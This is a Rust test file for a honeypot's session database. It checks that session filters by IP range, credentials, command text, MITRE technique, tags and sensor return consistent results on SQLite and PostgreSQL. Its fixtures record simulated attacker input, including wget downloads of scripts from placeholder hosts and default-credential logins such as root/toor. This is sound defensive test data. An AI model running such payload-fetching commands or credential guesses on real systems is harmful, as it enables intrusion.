//! Every [`SessionFilter`] field on real databases (SQLite, and PostgreSQL when
//! `MIRAGEPOT_TEST_POSTGRES_URL` is set): `list_sessions` and `count_sessions` select the
//! same sessions, CIDR ranges cover IPv4, IPv6 and IPv4-mapped addresses, user text is a
//! bound value whose LIKE wildcards are literal, and the command search survives rows that
//! are not JSON and PostgreSQL's parallel plans.

// Test code: clippy.toml allows these in `#[test]` fns, and the helpers here are test code too.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

#[allow(dead_code, unused_imports)]
#[macro_use]
mod support;
#[allow(dead_code)]
mod dash_support;

use support::TestDb;

both_backends!(
    filters_select_by_every_field,
    like_wildcards_in_filters_are_literal,
    command_filter_survives_rows_that_are_not_json,
    command_filter_reads_past_the_stored_text,
);

/// PostgreSQL only: the command search in a parallel plan (a table big enough for one, or
/// here cost settings that force it). Its JSON reader catches errors in a subtransaction,
/// which a parallel worker cannot start, so it must run in the leader.
#[tokio::test]
async fn postgres_command_filter_in_a_parallel_plan() {
    use miragepot_store::{SessionFilter, Store};
    let Some(db) = TestDb::postgres().await else {
        return;
    };
    let parallel = [
        "parallel_setup_cost=0",
        "parallel_tuple_cost=0",
        "min_parallel_table_scan_size=0",
        "min_parallel_index_scan_size=0",
        "enable_indexscan=off",
        "enable_bitmapscan=off",
        "enable_indexonlyscan=off",
    ];
    let mut url = db.url.clone();
    for setting in parallel {
        url.push_str(&format!("%20-c%20{}", setting.replace('=', "%3D")));
    }
    let store = Store::open(&url).await.unwrap();
    let mut events = Vec::new();
    for i in 0..300 {
        let s = support::Sess::new(support::at(i * 10));
        events.push(s.ev(i * 10, support::start()));
        events.push(s.ev(i * 10 + 1, support::cmd(&format!("echo {i}"))));
    }
    store.insert_batch(&events).await.unwrap();
    let f = SessionFilter {
        command: Some("echo 29".into()),
        ..SessionFilter::default()
    };
    assert_eq!(
        store.count_sessions(&f).await.unwrap(),
        11,
        "29 and 290..=299"
    );
    assert_eq!(store.list_sessions(&f, 50, 0).await.unwrap().len(), 11);
    // A needle across lines searches the events' JSON (none has this line).
    let f = SessionFilter {
        command: Some("29\necho".into()),
        ..SessionFilter::default()
    };
    assert_eq!(store.count_sessions(&f).await.unwrap(), 0);
    store.close().await;
    db.finish().await;
}

mod cases {
    use miragepot_event::SessionId;
    use miragepot_store::SessionFilter;

    use crate::dash_support::*;
    use crate::support::{Sess, TestDb, at, auth, cmd, start};

    /// The ids `f` lists (sorted), checking that `count_sessions` agrees.
    async fn ids(db: &TestDb, f: &SessionFilter) -> Vec<SessionId> {
        let rows = db.store.list_sessions(f, 500, 0).await.unwrap();
        let n = db.store.count_sessions(f).await.unwrap();
        assert_eq!(n, rows.len() as u64, "count vs list for {f:?}");
        let mut ids: Vec<_> = rows.into_iter().map(|r| r.session).collect();
        ids.sort();
        ids
    }

    /// A filter with one edit.
    fn with(edit: impl FnOnce(&mut SessionFilter)) -> SessionFilter {
        let mut f = SessionFilter::default();
        edit(&mut f);
        f
    }

    fn text(s: &str) -> Option<String> {
        Some(s.to_owned())
    }

    pub async fn filters_select_by_every_field(db: &TestDb) {
        let a = sess_from(0, "203.0.113.9");
        let b = sess_from(1000, "10.1.2.3");
        let c = sess_from(2000, "2001:db8::5");
        let d = sess_from(3000, "2001:db8:1::9");
        let e = sess_from(4000, "::ffff:10.9.9.9");
        let mut events = vec![
            a.ev(0, start()),
            a.ev(1, kex("aaaa")),
            a.ev(2, version("SSH-2.0-OpenSSH_8.9")),
            a.ev(3, auth("root", "toor", true)),
            a.ev(4, cmd("wget http://x/100%.sh")),
            a.ev(5, cmd("uname -a")),
            a.ev(6, technique("T1105", "Ingress Tool Transfer")),
            a.ev(7, technique("T1059.004", "Unix Shell")),
            a.ev(8, download("http://x/100%.sh")),
            a.ev(9, summary(80, Some("persistence"), 2, Some("h1"))),
            c.ev(2000, start()),
            c.ev(2001, kex("aaaa")),
            c.ev(2002, version("SSH-2.0-Go")),
            c.ev(2003, auth("root", "nope", false)),
            c.ev(2004, technique("T11050", "Not a sub-technique")),
            e.ev(4000, start()),
        ];
        let on_b = [
            start(),
            kex("bbbb"),
            version("SSH-2.0-libssh2_1.10"),
            auth("admin", "admin", true),
            cmd("echo 1000"),
            cmd("a_b"),
            technique("T1110.001", "Password Guessing"),
            token(),
            summary(30, Some("execution"), 2, Some("h2")),
        ];
        events.extend(
            (1000..)
                .zip(on_b)
                .map(|(ms, k)| on_sensor(b.ev(ms, k), "s2")),
        );
        let on_d = [
            start(),
            auth("root", "123456", true),
            cmd(r"cat C:\temp"),
            cmd("AXB"),
            download("http://y/z"),
            download("http://y/w"),
            summary(10, None, 2, Some("h3")),
        ];
        events.extend(
            (3000..)
                .zip(on_d)
                .map(|(ms, k)| on_sensor(d.ev(ms, k), "s3")),
        );
        db.store.insert_batch(&events).await.unwrap();
        db.store.add_tag(a.id, "miner").await.unwrap();
        db.store.add_tag(b.id, "follow-up").await.unwrap();
        let (a, b, c, d, e) = (a.id, b.id, c.id, d.id, e.id);
        let all = vec![a, b, c, d, e];
        let ip = |s: &str| Some(s.parse().unwrap());

        let cases: Vec<(SessionFilter, Vec<SessionId>)> = vec![
            (SessionFilter::default(), all.clone()),
            (with(|f| f.since_us = Some(us(1000))), vec![b, c, d, e]),
            (with(|f| f.until_us = Some(us(2000))), vec![a, b]),
            (
                with(|f| (f.since_us, f.until_us) = (Some(us(1000)), Some(us(2000)))),
                vec![b],
            ),
            (with(|f| f.ip = ip("203.0.113.9")), vec![a]),
            (with(|f| f.ip = ip("10.0.0.0/8")), vec![b, e]),
            (with(|f| f.ip = ip("10.9.9.9")), vec![e]),
            (with(|f| f.ip = ip("2001:db8::/32")), vec![c, d]),
            (with(|f| f.ip = ip("2001:db8::/48")), vec![c]),
            (with(|f| f.ip = ip("0.0.0.0/0")), vec![a, b, e]),
            (with(|f| f.ip = ip("::/0")), all.clone()),
            (with(|f| f.ip = ip("198.51.100.0/24")), vec![]),
            (with(|f| f.username = text("root")), vec![a, d]),
            (with(|f| f.username = text("  ")), all.clone()),
            (with(|f| f.username = text("root ")), vec![]),
            (with(|f| f.password = text("toor")), vec![a]),
            (with(|f| f.command = text("UNAME")), vec![a]),
            (with(|f| f.command = text(" 1000 ")), vec![b]),
            (
                with(|f| (f.command, f.since_us) = (text("uname"), Some(us(0)))),
                vec![a],
            ),
            (with(|f| f.technique = text("T1105")), vec![a]),
            (with(|f| f.technique = text("t1110")), vec![b]),
            (with(|f| f.technique = text("T1110.001")), vec![b]),
            (with(|f| f.technique = text("T1110.002")), vec![]),
            (with(|f| f.technique = text("T1059")), vec![a]),
            (with(|f| f.technique = text("T11050")), vec![c]),
            (with(|f| f.technique = text("%")), vec![]),
            (with(|f| f.stage = text("persistence")), vec![a]),
            (with(|f| f.risk_band = text("critical")), vec![a]),
            (with(|f| f.risk_band = text("LOW")), vec![d]),
            (with(|f| f.tag = text("miner")), vec![a]),
            (with(|f| f.tag = text("nope")), vec![]),
            (with(|f| f.hassh = text("aaaa")), vec![a, c]),
            (with(|f| f.client_version = text("openssh")), vec![a]),
            (with(|f| f.client_version = text("SSH")), vec![a, b, c]),
            (with(|f| f.has_download = Some(true)), vec![a, d]),
            (with(|f| f.has_download = Some(false)), vec![b, c, e]),
            (with(|f| f.has_token = Some(true)), vec![b]),
            (with(|f| f.has_token = Some(false)), vec![a, c, d, e]),
            (with(|f| f.sensor = text("s1")), vec![a, c, e]),
            (with(|f| f.sessions = Some(vec![a, c])), vec![a, c]),
            (with(|f| f.sessions = Some(vec![])), vec![]),
            (with(|f| f.exclude = vec![a, e]), vec![b, c, d]),
            (
                with(|f| {
                    f.sensor = text("s1");
                    f.hassh = text("aaaa");
                    f.has_download = Some(false);
                }),
                vec![c],
            ),
            (
                with(|f| {
                    f.sessions = Some(vec![a, b, c]);
                    f.exclude = vec![b];
                    f.username = text("root");
                }),
                vec![a],
            ),
        ];
        for (filter, mut want) in cases {
            want.sort();
            assert_eq!(ids(db, &filter).await, want, "{filter:?}");
        }
    }

    pub async fn like_wildcards_in_filters_are_literal(db: &TestDb) {
        let lines = [
            "echo 100%",
            "echo 1000",
            "a_b",
            "AXB",
            r"type C:\temp",
            r"C:\Xtemp",
        ];
        let mut ids = Vec::new();
        let mut events = Vec::new();
        for (i, line) in (0..).zip(lines) {
            let s = Sess::new(at(i * 10));
            events.push(s.ev(i * 10, start()));
            events.push(s.ev(i * 10 + 1, cmd(line)));
            events.push(s.ev(i * 10 + 2, version(&format!("SSH-2.0-{line}"))));
            ids.push(s.id);
        }
        db.store.insert_batch(&events).await.unwrap();
        for field in ["command", "client_version"] {
            let by = |needle: &str| {
                with(|f| match field {
                    "command" => f.command = text(needle),
                    _ => f.client_version = text(needle),
                })
            };
            let cases = [
                ("0%", 0, "% is literal"),
                ("%", 0, "% alone"),
                ("a_b", 2, "_ is literal"),
                (r"C:\t", 4, r"\ is literal"),
                ("ax", 3, "case-insensitive"),
            ];
            for (needle, want, why) in cases {
                assert_eq!(
                    crate::cases::ids(db, &by(needle)).await,
                    vec![ids[want]],
                    "{field}: {why}"
                );
            }
        }
    }

    /// A `command_input` row of session `id` whose data is not JSON (a hand-edited row).
    async fn insert_bad_json(db: &TestDb, id: SessionId) {
        sqlx::query(
            "INSERT INTO events (id, ts, ts_us, sensor, session, src_ip, src_port, type, data) \
             VALUES ('bad-json', '2024-05-01T12:00:00Z', 0, 's1', $1, '192.0.2.7', 40000, \
             'command_input', '{not json')",
        )
        .bind(id.to_string())
        .execute(db.store.pool())
        .await
        .unwrap();
    }

    pub async fn command_filter_survives_rows_that_are_not_json(db: &TestDb) {
        let s = Sess::new(at(0));
        let events = [
            s.ev(0, start()),
            s.ev(1, cmd("uname -a")),
            s.ev(2, cmd("nul\0here")),
        ];
        db.store.insert_batch(&events).await.unwrap();
        insert_bad_json(db, s.id).await;
        assert_eq!(
            ids(db, &with(|f| f.command = text("uname"))).await,
            vec![s.id]
        );
        assert!(
            ids(db, &with(|f| f.command = text("nomatch")))
                .await
                .is_empty()
        );
        // A line holding NUL never fails the query (PostgreSQL text cannot hold it).
        let f = with(|f| f.command = text("here"));
        assert_eq!(ids(db, &f).await, vec![s.id]);
        // Nor does the search of the events (a needle across lines).
        let f = with(|f| f.command = text("-a\nnul"));
        assert!(ids(db, &f).await.is_empty());
    }

    /// The stored command text keeps 16,384 characters: a line past them is found in the
    /// session's events, over several batches; a needle holding a newline matches within
    /// one line only.
    pub async fn command_filter_reads_past_the_stored_text(db: &TestDb) {
        let long = Sess::new(at(0));
        let short = Sess::new(at(10));
        db.store
            .insert_batch(&[long.ev(0, start()), short.ev(10, start())])
            .await
            .unwrap();
        let filler = "x".repeat(99);
        for batch in 0..4 {
            // 4 x 50 lines of 100 characters with their newlines: 20,000 in all.
            let events: Vec<_> = (0..50)
                .map(|i| long.ev(1 + batch * 50 + i, cmd(&filler)))
                .collect();
            db.store.insert_batch(&events).await.unwrap();
        }
        db.store
            .insert_batch(&[
                long.ev(500, cmd("wget http://late/bin")),
                short.ev(501, cmd("cat <<EOF\nhello\nEOF")),
                short.ev(502, cmd("foo")),
                short.ev(503, cmd("bar")),
            ])
            .await
            .unwrap();
        insert_bad_json(db, long.id).await;
        let stored: String =
            sqlx::query_scalar("SELECT command_text FROM sessions WHERE session = $1")
                .bind(long.id.to_string())
                .fetch_one(db.store.pool())
                .await
                .unwrap();
        assert_eq!(stored.chars().count(), 16_384, "capped");
        assert!(!stored.contains("late"), "the late line is past the cap");
        let by = |needle: &str| with(|f| f.command = text(needle));
        assert_eq!(ids(db, &by("LATE/bin")).await, vec![long.id]);
        assert_eq!(ids(db, &by("xxxx")).await, vec![long.id]);
        assert_eq!(ids(db, &by("hello\nEOF")).await, vec![short.id]);
        assert!(ids(db, &by("foo\nbar")).await.is_empty(), "two lines");
        assert_eq!(ids(db, &by("bar")).await, vec![short.id]);
        let mut both = vec![long.id, short.id];
        both.sort();
        assert_eq!(ids(db, &by("\n")).await, both.clone(), "blank after trim");
        assert_eq!(ids(db, &by("EOF")).await, vec![short.id]);
    }
}
